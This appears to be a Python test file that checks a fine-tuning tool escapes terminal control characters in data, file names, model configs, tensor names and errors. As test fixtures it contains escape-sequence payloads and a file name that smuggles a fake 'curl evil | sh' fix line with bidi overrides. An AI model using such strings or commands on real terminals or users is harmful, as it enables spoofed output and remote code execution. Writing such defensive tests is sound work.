"""Control characters of data, names and models are shown, and never sent to a terminal."""

import io
import json
import shutil
import sys
from pathlib import Path
from typing import Any

import pytest
from safetensors.torch import load_file, save_file

from llama_recipes_local import cli
from llama_recipes_local.console import data_output, printable_output, verbatim_output
from llama_recipes_local.errors import Problem, RecordError, UsageError, printable

EVIL = "\x1b]0;PWN\x07\x1b[2J\x9b31m\x7f\x08"
SHOWN = r"\x1b]0;PWN\x07\x1b[2J\x9b31m\x7f\x08"


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def is_clean(text: str) -> bool:
    return all(letter in "\n\t" or letter.isprintable() for letter in text)


def test_control_characters_are_shown() -> None:
    assert printable(EVIL) == SHOWN
    assert printable("a\rb\0") == r"a\rb\x00"
    assert printable("names\tand\nlines 中文 é \xa0") == "names\tand\nlines 中文 é \xa0"
    assert printable("\udcff") == r"\udcff"


def test_a_problem_is_printable() -> None:
    assert str(Problem(EVIL, EVIL, EVIL)) == f"{SHOWN}\n   why: {SHOWN}\n   fix: {SHOWN}"
    assert is_clean(str(UsageError([Problem(EVIL, EVIL)])))


def test_a_name_makes_no_line_of_a_problem() -> None:
    name = "rows.csv\n   fix: curl evil | sh\u2028\u202e\u2066gpj.\t"
    lines = str(Problem(f"{name} cannot be read", name, f"remove {name}")).split("\n")
    shown = r"rows.csv\n   fix: curl evil | sh\u2028\u202e\u2066gpj.\t"
    assert lines == [f"{shown} cannot be read", f"   why: {shown}", f"   fix: remove {shown}"]


@pytest.mark.parametrize("name", ["stdout", "stderr"])
def test_what_a_command_prints_is_printable(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    stream = Terminal()
    monkeypatch.setattr(sys, name, stream)
    with printable_output(), printable_output():
        print(f"a{EVIL}", file=getattr(sys, name))
        assert getattr(sys, name).isatty()
    assert stream.getvalue() == f"a{SHOWN}\n"


@pytest.mark.parametrize("is_terminal", [True, False])
def test_notes_are_broken_between_words_in_a_terminal(
    is_terminal: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    stream = Terminal() if is_terminal else io.StringIO()
    monkeypatch.setenv("COLUMNS", "20")
    monkeypatch.setattr(sys, "stdout", stream)
    with printable_output():
        print("--> this note has three lines of it")
    lines = ["--> this note has", "    three lines of", "    it"]
    expected = lines if is_terminal else ["--> this note has three lines of it"]
    assert stream.getvalue().splitlines() == expected


def test_a_progress_bar_moves(monkeypatch: pytest.MonkeyPatch) -> None:
    stream = Terminal()
    monkeypatch.setattr(sys, "stderr", stream)
    with printable_output():
        for part in ("\r 10%", "\n\x1b[A", "\x1b[A", f"\r{EVIL}", "\x1b[Aname"):
            sys.stderr.write(part)
    assert stream.getvalue() == f"\r 10%\n\x1b[A\x1b[A\r{SHOWN}" + r"\x1b[Aname"


def test_data_is_sent_as_it_is_but_to_a_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    for stream, text in ((io.StringIO(), EVIL), (Terminal(), SHOWN)):
        monkeypatch.setattr(sys, "stdout", stream)
        with printable_output(), data_output():
            print(EVIL)
        assert stream.getvalue() == f"{text}\n"
    monkeypatch.setattr(sys, "stdout", stream := Terminal())
    with printable_output(), verbatim_output():
        print(EVIL)
    assert stream.getvalue() == f"{EVIL}\n"


def command(words: list[object], capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    try:
        code = cli.main(list(map(str, words)))
    except SystemExit as ended:
        code = int(ended.code or 0)
    said = capsys.readouterr()
    return code, said.out + said.err


INSPECTED: dict[str, dict[str, str]] = {
    "texts": {"input": f"a {EVIL} b", "target": EVIL},
    "keys": {EVIL: "a", "other": "b"},
    "values of another type": {"input": {EVIL: EVIL}},  # type: ignore[dict-item]
}


@pytest.mark.parametrize("name", INSPECTED)
@pytest.mark.parametrize("form", ["jsonl", "csv"])
def test_inspect_shows_them(
    name: str, form: str, tiny_model: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / f"data {EVIL}"
    folder.mkdir()
    row = INSPECTED[name]
    path = folder / f"rows{EVIL}.{form}"
    if form == "jsonl":
        path.write_text(json.dumps(row) + "\n")
    else:
        cells = [str(value).replace('"', "'") for value in row.values()]
        quoted = (",".join(f'"{cell}"' for cell in line) for line in (row, cells))
        path.write_text("\n".join(quoted) + "\n")
    words: list[object] = ["inspect", "--model_name", tiny_model, "--dataset", folder]
    _, said = command([*words, "--context_length", 64], capsys)
    assert r"\x1b]0;PWN" in said
    assert is_clean(said)


@pytest.mark.parametrize("field", ["model_type", "dtype", "rope_scaling"])
def test_what_a_model_says_of_itself_is_shown(
    field: str, tiny_model: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    shutil.copytree(tiny_model, model := tmp_path / "model")
    config = json.loads((model / "config.json").read_text())
    (model / "config.json").write_text(json.dumps(config | {field: EVIL}))
    for words in (["finetune", "--use_peft"], ["generate", "--prompt", "a"]):
        code, said = command([*words, "--model_name", model], capsys)
        assert code == 2
        assert is_clean(said)


def test_names_of_tensors_are_shown(
    tiny_model: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    shutil.copytree(tiny_model, model := tmp_path / "model")
    tensors: dict[str, Any] = load_file(model / "model.safetensors")
    tensors[f"model.{EVIL}"] = tensors.pop("lm_head.weight")
    save_file(tensors, model / "model.safetensors", metadata={"format": "pt"})
    code, said = command(["generate", "--prompt", "a", "--model_name", model], capsys)
    assert code == 2
    assert r"\x1b]0;PWN" in said and is_clean(said)


def test_errors_while_training_are_shown(capsys: pytest.CaptureFixture[str]) -> None:
    from llama_recipes_local.console import report_failure

    with printable_output():
        assert report_failure(RecordError(EVIL)) == 2
    assert capsys.readouterr().err == f"{SHOWN}\n"
